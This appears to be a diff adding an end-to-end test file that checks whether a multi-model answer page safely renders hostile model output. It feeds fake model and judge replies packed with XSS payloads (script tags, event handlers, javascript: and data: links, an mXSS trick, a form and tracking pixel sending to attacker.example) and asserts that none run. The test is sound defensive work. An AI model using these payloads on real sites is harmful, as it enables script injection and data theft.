@@ -1,0 +1,105 @@
+// Models say what they like, and what they read on the web says it through them.
+
+import { cites, says, uses } from "../provider/scripts.mjs";
+import { equal, includes, ok } from "../scenarios/assert.mjs";
+import { ask, clean, ended, fits, useOwn } from "./steps.mjs";
+
+const EVIL = "https://attacker.example";
+
+const text = `Common ground, and this:
+
+<script>window.hacked = "script"</script>
+<img src="${EVIL}/a.png" onerror="window.hacked='onerror'">
+![pixel](${EVIL}/pixel.png?q=secret)
+[click me](javascript:window.hacked='link')
+<a href="data:text/html,<script>alert(1)</script>" onclick="window.hacked='onclick'">data</a>
+<a href="https://example.org/" target="_self" rel="opener">self</a>
+
+<div style="position:fixed;inset:0;background:url(${EVIL}/bg.png)" class="stop" id="send" onmouseover="window.hacked='over'">cover</div>
+
+<style>body { display: none; background: url(${EVIL}/css.png) }</style>
+<form action="${EVIL}" id="ask"><input name="key" autofocus onfocus="window.hacked='focus'"><button>Send</button></form>
+<svg onload="window.hacked='svg'"><a xlink:href="javascript:window.hacked='xlink'"><text>x</text></a></svg>
+<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.hacked='mxss'&gt;"></table></mtext></math>
+<iframe src="javascript:window.hacked='frame'"></iframe><object data="${EVIL}"></object><embed src="${EVIL}">
+<details open ontoggle="window.hacked='toggle'"><summary>s</summary>d</details>
+<base href="${EVIL}"><meta http-equiv="refresh" content="0;url=${EVIL}"><link rel="stylesheet" href="${EVIL}/x.css">
+<video src="${EVIL}/v.mp4" autoplay></video><template><script>window.hacked="template"</script></template>
+
+| ${"wide | ".repeat(60)}
+| ${"--- | ".repeat(60)}
+| ${"cell | ".repeat(60)}
+
+${"unbroken".repeat(200)}
+
+- [x] task
+\u202Eright to left override
+<b>the end`;
+
+const cast = {
+  "desk/evil": says(text, {
+    annotations: [cites("javascript:window.hacked='source'", "<img src=x onerror=window.hacked='title'>"), cites(`${EVIL}/page`, "A real title")],
+    reasoning: text,
+    reasoning_details: [uses("openrouter:web_search", { query: "<img src=x onerror=window.hacked='tool'>" }, {})],
+  }),
+  "desk/judge": { sequence: [says(JSON.stringify(comparison())), says(text)] },
+};
+
+function comparison() {
+  return {
+    consensus: [{ point: text, responses: ["A", "B"], quotes: [{ response: "A", quote: text.slice(0, 300) }] }],
+    contradictions: [{ topic: text, stances: [{ response: "A", stance: text, quote: "x" }, { response: "B", stance: "y", quote: "z" }] }],
+    partial_coverage: [],
+    unique_insights: [{ response: "B", insight: text, quote: text }],
+    blind_spots: [{ point: text }],
+  };
+}
+
+export const hostile = [
+  { name: "hostile output is harmless", run: harmless },
+  { name: "hostile output is harmless on a phone too", run: harmless, viewport: { width: 320, height: 640 } },
+  { name: "a hostile error message is only text", run: errorText },
+];
+
+async function harmless({ open, site, room }) {
+  await room.script(cast);
+  const page = await open();
+  await useOwn(page, room.baseURL, ["desk/evil", "desk/evil"], "desk/judge");
+  await ask(page, "Is the sky blue?");
+  await ended(page, "done");
+  await page.locator(".run details").evaluateAll((folds) => folds.forEach((fold) => (fold.open = true)));
+  await page.waitForTimeout(500);
+
+  equal(await page.evaluate(() => window.hacked ?? null), null, "something ran");
+  const found = await page.locator(".run").evaluate((run) => ({
+    forbidden: [...run.querySelectorAll("script, img, iframe, form, input, style, svg, math, object, embed, base, meta, link, video, template")].map(({ tagName }) => tagName),
+    attributes: [...run.querySelectorAll("*")].flatMap(({ attributes }) => [...attributes]).filter(({ name }) => /^on|^style$|^srcset$/.test(name)).map(({ name }) => name),
+    links: [...run.querySelectorAll("a[href]:not(.by)")].map((link) => ({ url: link.href, target: link.target, rel: link.rel })),
+    fromModel: [...run.querySelectorAll(".prose *, .quote *, .point *")].filter((node) => (node.id || node.className) && !node.closest(".badge, .mark-quote")).map(({ outerHTML }) => outerHTML.slice(0, 80)),
+  }));
+  equal(found.forbidden, [], "elements that must not be there");
+  equal(found.attributes, [], "attributes that must not be there");
+  equal(found.fromModel, [], "a model gave itself an id or a class of the page");
+  ok(found.links.length > 3, "harmless links are left");
+  for (const link of found.links) {
+    ok(/^(https?|mailto):/.test(link.url), `a link to ${link.url}`);
+    equal([link.target, link.rel], ["_blank", "noopener noreferrer nofollow"], link.url);
+  }
+  includes(await page.locator(".answer .prose").innerText(), "pixel (image)", "a remote image became a link");
+  includes(await page.locator(".answer .prose").innerText(), "the end", "the text goes on after it all");
+  await fits(page, "with a giant table and an unbroken word");
+  await clean(page, site, room.baseURL);
+}
+
+async function errorText({ open, site, room }) {
+  const message = "<img src=x onerror=window.hacked=1><b>bold</b>";
+  await room.script({ "*": { status: 400, body: { error: { code: 400, message } } } });
+  const page = await open();
+  await useOwn(page, room.baseURL, ["<i>odd</i>/name", "desk/b"]);
+  await ask(page, "Is the sky blue?");
+  await ended(page, "failed");
+  includes(await page.locator(".notice.error").innerText(), "<b>bold</b>");
+  includes(await page.locator(".panelist").first().innerText(), "name");
+  equal(await page.locator(".run :is(img, b, i)").count(), 0);
+  await clean(page, site, room.baseURL);
+}
